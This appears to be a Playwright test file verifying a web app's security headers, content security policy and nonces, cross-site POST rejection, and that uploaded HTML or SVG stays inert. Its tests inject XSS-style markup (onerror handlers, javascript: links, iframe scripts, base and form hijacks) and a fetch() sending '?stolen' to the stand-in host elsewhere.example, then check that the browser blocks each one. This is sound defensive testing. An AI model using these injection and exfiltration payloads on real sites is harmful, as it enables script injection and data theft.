import type { Page } from '@playwright/test';
import { expect, mugNamed, test } from './app';
import { blobToken } from './blobs';

/** What the browser kept the page from, as `directive blocked`. */
async function violations(page: Page): Promise<() => string[]> {
  const seen: string[] = [];
  await page.exposeFunction('violated', (what: string) => seen.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      Reflect.get(window, 'violated')(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return () => seen;
}

test.describe('whoever could write into a page', () => {
  test('runs nothing, sends nothing out and turns no form away', async ({ page, app }) => {
    const seen = await violations(page);
    await page.goto(app.origin);
    await page.evaluate(() => {
      const written = document.createElement('div');
      written.innerHTML = `
        <img src="/nowhere.png" onerror="window.ran = 'handler'">
        <img src="https://elsewhere.example/?stolen">
        <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
        <iframe src="/page.png"></iframe>
        <a id="lure" href="javascript:window.ran = 'address'">Look</a>
        <base href="https://elsewhere.example/">
        <object data="/page.png"></object>
        <form id="form" action="https://elsewhere.example/"></form>`;
      document.body.append(written);
      document.querySelector<HTMLAnchorElement>('#lure')?.click();
      document.querySelector<HTMLFormElement>('#form')?.submit();
      fetch('https://elsewhere.example/?stolen').catch(() => undefined);
    });
    await expect
      .poll(() => [...new Set(seen().map((each) => each.split(' ')[0]))].sort())
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
      ]);
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
    expect(page.url()).toBe(`${app.origin}/`);
  });

  test('cannot know the nonce beforehand, nor read it', async ({ page, app }) => {
    const nonces = new Set<string>();
    for (let i = 0; i < 3; i++) {
      const response = await fetch(app.origin);
      const policy = response.headers.get('content-security-policy') ?? '';
      const [, nonce = ''] = /'nonce-([^']+)'/.exec(policy) ?? [];
      expect(nonce).toMatch(/^[\w+/]{22}==$/);
      nonces.add(nonce);
      const scripts = (await response.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(5);
      for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    }
    expect(nonces.size).toBe(3);
    await page.goto(app.origin);
    const told = await page.evaluate(() =>
      [...document.querySelectorAll('script')].map((script) => script.getAttribute('nonce')),
    );
    expect(told.filter(Boolean)).toEqual([]);
  });
});

test('what another site’s page posts to a page is turned away', async ({ app }) => {
  for (const headers of [
    { origin: 'https://elsewhere.example' },
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site', origin: app.origin },
    { 'sec-fetch-site': 'same-site' },
  ]) {
    const response = await fetch(app.origin, { method: 'POST', body: 'x', headers });
    expect(response.status, JSON.stringify(headers)).toBe(403);
  }
});

const ID = 'a'.repeat(26);
const FRAMELESS = /frame-ancestors 'none'/;
const INERT = /^default-src 'none'; .*sandbox$/;

test.describe('every answer says what a browser may do with it:', () => {
  for (const [at, policy] of [
    ['/', FRAMELESS],
    ['/batches', FRAMELESS],
    [`/b/${ID}`, FRAMELESS],
    ['/nowhere', FRAMELESS],
    ['/api', FRAMELESS],
    ['/samples', FRAMELESS],
    ['/api/health', INERT],
    ['/api/nowhere', INERT],
    [`/api/cutouts/${ID}`, INERT],
    [`/api/batches/${ID}`, INERT],
    ['/standin/blob/files/private/x.html', INERT],
    ['/standin/kie/nowhere', INERT],
    ['/page.png', null],
    ['/icon.svg', null],
    ['/samples/mug.webp', null],
  ] as const) {
    test(at, async ({ app }) => {
      const { headers } = await fetch(app.origin + at);
      expect(Object.fromEntries(headers)).toMatchObject({
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'same-origin',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'permissions-policy': expect.stringContaining('camera=()'),
      });
      if (policy) expect(headers.get('content-security-policy')).toMatch(policy);
      expect(headers.get('content-security-policy') ?? '').not.toMatch(
        /script-src[^;]*'unsafe-(inline|eval)'/,
      );
      expect(headers.get('x-powered-by')).toBeNull();
      expect(headers.get('strict-transport-security'), 'over plain HTTP').toBeNull();
      const secure = await fetch(app.origin + at, { headers: { 'x-forwarded-proto': 'https' } });
      expect(secure.headers.get('strict-transport-security')).toBe('max-age=63072000');
    });
  }
});

test('a worker’s file says what it may do; the other files of the build say little', async ({
  batch,
  app,
}) => {
  const { page } = batch;
  await batch.open();
  const started = page.waitForEvent('worker');
  await batch.add(await mugNamed('mug.jpg'));
  const worker = await fetch((await started).url());
  expect(worker.headers.get('x-content-type-options')).toBe('nosniff');
  expect(worker.headers.get('content-security-policy')).toBe(
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'",
  );
  expect(worker.headers.get('permissions-policy')).toBeNull();
  const file = await page.locator('script[src*="/_next/static/"]').first().getAttribute('src');
  const { status, headers } = await fetch(new URL(file ?? '', app.origin));
  expect(status).toBe(200);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toBeNull();
});

test('a page that lies in the store runs nothing when it is opened', async ({ page, app }) => {
  const authorization = `Bearer ${blobToken(app)}`;
  const html = `<!doctype html><title>still</title><script>document.title = 'ran'</script>
    <svg xmlns="http://www.w3.org/2000/svg" onload="document.title = 'ran'"></svg>`;
  for (const [name, type] of [
    ['page.html', 'text/html'],
    ['drawing.svg', 'image/svg+xml'],
    ['photo.jpg', 'image/jpeg'],
  ] as const) {
    const query = new URLSearchParams({ pathname: `copies/${name}` });
    const put = await fetch(`${app.origin}/standin/blob/?${query}`, {
      method: 'PUT',
      body: html,
      headers: {
        authorization,
        'x-content-type': type,
        'x-vercel-blob-access': 'private',
        'x-add-random-suffix': '0',
        'x-allow-overwrite': '1',
      },
    });
    const { url }: { url: string } = await put.json();
    const kept = `${app.origin}/standin/blob/files/private/copies/${name}`;
    expect(new URL(url).pathname).toContain(name);
    await page.setExtraHTTPHeaders({ authorization });
    const answer = await page.goto(kept);
    expect(answer?.status(), name).toBe(200);
    expect(answer?.headers()['content-type']).toBe(type);
    expect(answer?.headers()['x-content-type-options']).toBe('nosniff');
    expect(await page.title(), name).not.toBe('ran');
    await page.setExtraHTTPHeaders({});
  }
});
